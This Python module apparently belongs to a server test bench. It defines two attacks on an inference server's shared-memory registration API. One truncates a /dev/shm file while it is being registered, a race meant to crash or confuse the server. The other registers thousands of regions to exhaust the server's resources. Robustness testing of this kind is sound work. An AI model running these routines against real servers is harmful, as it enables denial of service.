"""Attacks by a client that changes shared memory which it has registered, or registers too much of it."""

from __future__ import annotations

import contextlib
import http.client
import json
import os
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

from bench.attackers.target import Target
from bench.helper import object_name

_SIZE = 1 << 20


def cut_while_registered(target: Target) -> None:
    """Registers a file while a second thread truncates and extends it, so that it shrinks in the middle of a registration."""
    stop = threading.Event()

    def change(path: Path) -> None:
        while not stop.is_set():
            os.truncate(path, 100)
            os.truncate(path, _SIZE)

    with _object() as path, _asking(target) as ask:
        thread = threading.Thread(target=change, args=(path,))
        thread.start()
        try:
            while target.going_on():
                register = {"key": f"/{path.name}", "offset": 0, "byte_size": _SIZE}
                ask(f"/v2/systemsharedmemory/region/{path.name}/register", register)
                ask(f"/v2/systemsharedmemory/region/{path.name}/unregister", {})
        finally:
            stop.set()
            thread.join()


def many_regions(target: Target) -> None:
    """Registers regions, each with its own shared memory file, until the server refuses more, and unregisters them."""
    with contextlib.ExitStack() as stack:
        ask = stack.enter_context(_asking(target))
        names = []
        while target.going_on() and len(names) < 6000:
            path = stack.enter_context(_object(4096))
            register = {"key": f"/{path.name}", "offset": 0, "byte_size": 4096}
            ask(f"/v2/systemsharedmemory/region/{path.name}/register", register)
            names.append(path.name)
        for name in names:
            ask(f"/v2/systemsharedmemory/region/{name}/unregister", {})


@contextlib.contextmanager
def _object(byte_size: int = _SIZE) -> Iterator[Path]:
    path = Path("/dev/shm", object_name())
    try:
        path.touch(0o600)
        os.truncate(path, byte_size)
        yield path
    finally:
        path.unlink(missing_ok=True)


@contextlib.contextmanager
def _asking(target: Target) -> Iterator[Callable[[str, dict[str, object]], None]]:
    """Yields a function that posts JSON on one kept connection and counts the status of each answer."""
    connection = http.client.HTTPConnection(target.http, timeout=60)

    def ask(path: str, content: dict[str, object]) -> None:
        with target.refusals():
            connection.request("POST", path, json.dumps(content))
            with connection.getresponse() as answer:
                answer.read()
                target.count(f"status {answer.status}")

    try:
        yield ask
    finally:
        connection.close()


ATTACKS: dict[str, Callable[[Target], None]] = {
    "regions-cut-while-registered": cut_while_registered,
    "regions-many": many_regions,
}
